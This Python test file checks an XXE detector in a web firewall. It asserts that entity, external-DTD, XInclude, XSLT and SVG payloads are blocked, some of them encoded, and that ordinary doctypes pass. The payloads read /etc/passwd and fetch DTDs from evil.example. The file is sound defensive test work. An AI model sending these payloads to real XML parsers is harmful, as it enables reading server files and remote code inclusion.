"""XXE: entity declarations, external and internal DTDs, XInclude, in any encoding; doctypes that pass."""

from __future__ import annotations

import pytest

from sealgate.detectors.base import Finding
from sealgate.detectors.engine import anomaly_score
from sealgate.detectors.normalize import Value
from sealgate.detectors.xxe import DETECTOR


def _detect(text: str, location: str, paranoia: int) -> list[Finding]:
    return DETECTOR.detect(Value(text, "body" if location == "body" else "value"), location, paranoia)


def _rules(text: str, location: str = "body", paranoia: int = 1) -> list[str]:
    return [f.rule_id for f in _detect(text, location, paranoia)]


def _score(text: str, location: str = "body", paranoia: int = 1) -> int:
    return anomaly_score(f for f in _detect(text, location, paranoia) if f.paranoia <= paranoia)


@pytest.mark.parametrize(
    ("payload", "rule"),
    [
        ('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', "xxe-entity"),
        ('<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>', "xxe-entity"),
        ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]><lolz>&lol2;</lolz>', "xxe-entity"),
        ('<!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>', "xxe-external-dtd"),
        ('<!DOCTYPE r PUBLIC "-//X//Y" "http://evil.example/x.dtd"><r/>', "xxe-external-dtd"),
        ("<!DOCTYPE r [ <!ELEMENT r ANY> ]><r/>", "xxe-internal-subset"),
        ('<!doctype r system "http://evil.example/x.dtd">', "xxe-external-dtd"),
        ('<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></r>', "xxe-xinclude"),
        ("&lt;!ENTITY x SYSTEM &quot;file:///etc/passwd&quot;&gt;", "xxe-entity"),
        ("%3C%21ENTITY%20x%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fpasswd%22%3E", "xxe-entity"),
        ('+ADw-!ENTITY x SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-', "xxe-entity"),
        ("<\x00!\x00E\x00N\x00T\x00I\x00T\x00Y\x00 \x00x\x00 \x00", "xxe-entity"),
    ],
)
def test_dtd_attacks(payload: str, rule: str) -> None:
    assert rule in _rules(payload)
    assert _score(payload) >= 5


@pytest.mark.parametrize("location", ["body", "body.$.xml", "form.data", "multipart.upload", "query.q"])
def test_detected_in_every_location(location: str) -> None:
    assert _score('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>', location) >= 5


@pytest.mark.parametrize(
    "text",
    [
        "<!DOCTYPE html><html lang='en'><body>hi</body></html>",
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
        '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
        '<!DOCTYPE math PUBLIC "-//W3C//DTD MathML 2.0//EN" "http://www.w3.org/Math/DTD/mathml2/mathml2.dtd">',
        "<!-- comment --><r/>",
        "<r><![CDATA[ <!ENTITY is just text here ]]></r>".replace("<!ENTITY", "ENTITY"),
        "Put the DOCTYPE first; ENTITY declarations are not allowed",
        "<?xml version='1.0'?><order><id>1</id></order>",
    ],
)
def test_benign_xml_passes(text: str) -> None:
    assert _score(text) < 5, _rules(text)


def test_plain_doctype_is_four_points_in_a_body_two_at_pl2_elsewhere() -> None:
    (finding,) = DETECTOR.detect(Value("<!DOCTYPE r><r/>", "body"), "body", 1)
    assert (finding.rule_id, finding.severity) == ("xxe-doctype", "error")
    assert DETECTOR.detect(Value("<!DOCTYPE r>"), "query.q", 1) == []
    (finding,) = DETECTOR.detect(Value("<!DOCTYPE r>"), "query.q", 2)
    assert (finding.severity, finding.paranoia) == ("notice", 2)


def test_no_trigger_no_work() -> None:
    assert DETECTOR.detect(Value("<order><id>1</id></order>"), "body", 3) == []


def _xml_request(body: bytes) -> bool:
    """Whether a POST with this ``application/xml`` body is blocked by the XXE detector alone."""
    from sealgate.detectors.engine import DetectionEngine
    from sealgate.pipeline.exchange import Exchange

    exchange = Exchange(method="POST", path="/t", raw_path=b"/t", body=body,
                        headers=[("host", "localhost"), ("content-type", "application/xml")])
    return DetectionEngine([DETECTOR], paranoia=1).assess(exchange).blocked


_STYLESHEET = (b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
               b'<xsl:template match="/">%s</xsl:template></xsl:stylesheet>')


@pytest.mark.parametrize(
    "inner",
    [
        b"<xsl:copy-of select=\"document('/etc/passwd')\"/>",
        b"<xsl:value-of select=\"unparsed-text('/etc/passwd')\"/>",
        b"<xsl:value-of select=\"system-property('xsl:vendor')\"/>",
        b'<xsl:include href="http://evil.example/x.xsl"/>',
    ],
)
def test_stylesheet_in_a_parsed_xml_body(inner: bytes) -> None:
    # A well-formed XSLT body is parsed into pieces with expanded namespaces: no "xsl:" left.
    assert _xml_request(_STYLESHEET % inner)


def test_copying_stylesheet_and_plain_svg_bodies_pass() -> None:
    assert not _xml_request(_STYLESHEET % b'<xsl:value-of select="concat(a, b)"/><xsl:copy-of select="."/>')
    svg = (b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
           b'<image xlink:href="https://example.com/a.png"/><use xlink:href="#icon"/></svg>')
    assert not _xml_request(svg)


def test_svg_body_with_a_local_xlink_reference() -> None:
    svg = (b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
           b'<image xlink:href="file:///etc/hostname"/></svg>')
    assert _xml_request(svg)
    assert _rules(svg.decode(), "body.$.avatar") == ["xxe-xlink"]
